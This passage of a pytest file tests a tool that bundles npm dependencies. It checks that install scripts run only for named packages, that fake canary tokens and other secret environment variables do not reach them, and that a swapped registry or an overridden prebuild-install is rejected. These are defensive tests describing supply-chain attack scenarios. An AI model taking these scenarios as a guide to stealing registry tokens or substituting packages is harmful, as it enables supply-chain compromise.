    server.server_close()


def _native(project: Project, **fields: Any) -> None:
    project.manifest(lock=False, dependencies={"native": "1.0.0"}, **fields)


@needs_npm
def test_a_package_that_is_allowed_downloads_its_binary_without_secrets(
    scene: Scene, registry: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The one program of a dependency that runs, and only because the caller has named the package."""
    monkeypatch.setenv("NPM_CONFIG_REGISTRY", registry)
    monkeypatch.setenv("npm_config_//h.test/:_authToken", "canary-registry-token")
    monkeypatch.setenv("NPM_TOKEN", "canary-npm-token")
    _native(scene.project)
    assert scene.bundle("--allow-scripts", "native") == 0
    environ, argv = json.loads(contents(scene.output)["node_modules/native/native.node"])
    assert "--platform=linux" in argv
    assert [value for value in environ.values() if "canary" in value] == []
    assert environ.keys() & {"NODE_OPTIONS", "NODE_PATH", "NPM_TOKEN", *SECRETS} == set()
    assert environ["HOME"] != os.environ["HOME"]


@needs_npm
@pytest.mark.parametrize(
    ("name", "arguments", "error"),
    [
        pytest.param("a package that is not allowed has a script", [], None, id="not allowed"),
        pytest.param("another package is allowed", ["--allow-scripts", "other"], None, id="another one"),
        pytest.param(
            "the project chooses the registry of a package that is allowed",
            ["--allow-scripts", "native"],
            "does not come from your registry",
            id="the project's registry",
        ),
    ],
)
def test_a_package_of_the_projects_registry_runs_nothing(
    name: str,
    arguments: Sequence[str],
    error: str | None,
    scene: Scene,
    registry: str,
    capsys: pytest.CaptureFixture[str],
    record_property: Callable[[str, object], None],
) -> None:
    record_property("attack", name)
    _native(scene.project)
    scene.project.files(**{".npmrc": f"registry={registry}\n"})
    assert scene.bundle(*arguments) == (0 if error is None else 1)
    err = capsys.readouterr().err
    assert (error or "native 1.0.0 is not compiled for the function's platform") in err
    assert not scene.output.exists() or "node_modules/native/native.node" not in contents(scene.output)


@needs_npm
def test_a_package_that_the_project_overrides_is_not_from_the_registry(
    scene: Scene,
    registry: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    record_property: Callable[[str, object], None],
) -> None:
    record_property("attack", "an override replaces the prebuild-install of a package that is allowed")
    monkeypatch.setenv("NPM_CONFIG_REGISTRY", registry)
    fetcher = scene.project.package("prebuild-install", {"bin.js": scene.project.node})
    _native(scene.project, overrides={"prebuild-install": fetcher})
    assert scene.bundle("--allow-scripts", "native") == 1
    assert "native 1.0.0 or its prebuild-install does not come from your registry" in capsys.readouterr().err
